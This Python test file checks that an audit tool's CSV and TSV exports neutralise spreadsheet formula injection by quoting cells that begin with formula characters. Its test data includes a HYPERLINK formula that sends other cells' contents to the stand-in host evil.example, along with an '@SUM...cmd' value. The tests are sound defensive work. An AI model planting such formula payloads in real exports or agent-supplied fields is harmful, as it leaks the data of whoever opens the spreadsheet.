"""Review G12: ``valet audit query --format csv/tsv`` neutralises cells a spreadsheet would run as formulas.

An agent chooses its JSON-RPC method, its Mcp-Session-Id and its path; an export often ends up in a
spreadsheet, where ``=HYPERLINK(...)`` or ``@SUM(...)`` is live. Text cells starting with a formula character
get a leading ``'`` (OWASP's advice); numbers and the JSON formats are unchanged.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import httpx
import pytest

from addon.cli.audit import spreadsheet_safe

from .audit_support import recording  # noqa: F401 - a fixture
from .support import MCP_HEADERS, Upstream, running_valet

METHOD = '=HYPERLINK("http://evil.example/?"&E2&F2,"details")'
SESSION = "@SUM(1+1)*cmd"


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "  =1", "\n@x", "＝1+1"])
def test_formula_cells_are_quoted(value: str) -> None:
    assert spreadsheet_safe(value) == "'" + value


@pytest.mark.parametrize("value", ["tools/call", "/notes", "", "a=b", None, -32600, 1.5, "'=already"])
def test_other_cells_are_unchanged(value: object) -> None:
    assert spreadsheet_safe(value) == value


def test_an_agents_formula_is_inert_in_csv_and_tsv_and_intact_in_json(tmp: Path, recording: Upstream) -> None:
    with running_valet(tmp, {"notes": f"http://127.0.0.1:{recording.port}/mcp"}) as valet:
        key, _ = valet.new_key()
        headers = {**MCP_HEADERS, "authorization": f"Bearer {key}"}
        httpx.post(f"{valet.base}/notes", json={"jsonrpc": "2.0", "id": 1, "method": METHOD, "params": {}},
                   headers=headers, timeout=10)
        httpx.post(f"{valet.base}/notes", json={"jsonrpc": "2.0", "id": 2, "method": "ping"},
                   headers={**headers, "mcp-session-id": SESSION}, timeout=10)
        valet.rows("session_id = ?", (SESSION,))
        valet.rows("rpc_id = '1'")
        sql = "SELECT id, rpc_method, session_id, error_code FROM exchanges ORDER BY id"
        for fmt, dialect in (("csv", "excel"), ("tsv", "excel-tab")):
            out = valet.cli("audit", "query", "--format", fmt, sql).stdout
            cells = [c for row in csv.reader(io.StringIO(out), dialect=dialect) for c in row]
            assert "'" + METHOD in cells and "'" + SESSION in cells, out
            assert not [c for c in cells if c[:1] in "=+@" and c], f"{fmt}: a live formula: {out}"
        rows = [json.loads(line) for line in valet.cli("audit", "query", "--format", "jsonl", sql).stdout.splitlines()]
        assert METHOD in {r["rpc_method"] for r in rows} and SESSION in {r["session_id"] for r in rows}
